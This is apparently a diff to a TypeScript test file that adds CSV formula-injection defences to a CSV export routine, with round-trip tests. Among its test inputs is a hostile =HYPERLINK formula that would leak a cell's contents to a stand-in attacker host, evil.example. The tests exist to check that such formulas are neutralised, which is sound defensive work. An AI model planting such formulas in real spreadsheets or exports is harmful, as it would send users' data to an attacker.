@@ -15,6 +15,15 @@ describe('csvField', () => {
     ['a CR quoted', 'one\rtwo', '"one\rtwo"'],
     ['edge spaces quoted', ' padded ', '" padded "'],
     ['non-ASCII as is', 'Тоқаев, 77.5%', '"Тоқаев, 77.5%"'],
+    // CSV injection (OWASP): a text cell that starts like a formula gets a quote before it, and is quoted.
+    ['a formula neutralised', '=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
+    ['an @ function neutralised', '@SUM(1+1)', `"'@SUM(1+1)"`],
+    ['a plus neutralised', '+1+1', `"'+1+1"`],
+    ['a minus in text neutralised', '-2+3', `"'-2+3"`],
+    ['a leading tab neutralised', '\t=1+1', `"'\t=1+1"`],
+    ['a leading CR neutralised', '\r=1+1', `"'\r=1+1"`],
+    ['a formula character later in the text as is', 'A=B', 'A=B'],
+    ['a negative number written as a number', -5, '-5'],
   ];
   for (const [name, value, expected] of cases) it(name, () => expect(csvField(value)).toBe(expected));
 });
@@ -35,10 +44,17 @@ describe('toCsv', () => {
 
   it('round-trips through a strict RFC 4180 parser', () => {
     const tricky = [
-      { a: '"', b: ',', c: '\r\n' },
+      // A line break inside a cell (one at its start would be neutralised as a formula start).
+      { a: '"', b: ',', c: 'one\r\ntwo' },
       { a: '""', b: 'é ü Қ', c: ' lead' },
     ];
     const parsed = parse(toCsv(['a', 'b', 'c'], tricky), { columns: true, record_delimiter: '\r\n', relax_quotes: false });
     expect(parsed).toEqual(tricky);
+  });
+
+  it('hostile names read back as text that starts with a quote, never as a formula', () => {
+    const hostile = [{ name: '=HYPERLINK("http://evil.example/?"&A1,"click")' }, { name: '@SUM(1+1)' }, { name: '-5' }];
+    const parsed: { name: string }[] = parse(toCsv(['name'], hostile), { columns: true, record_delimiter: '\r\n', relax_quotes: false });
+    expect(parsed.map((row) => row.name)).toEqual(hostile.map((row) => `'${row.name}`));
   });
 });
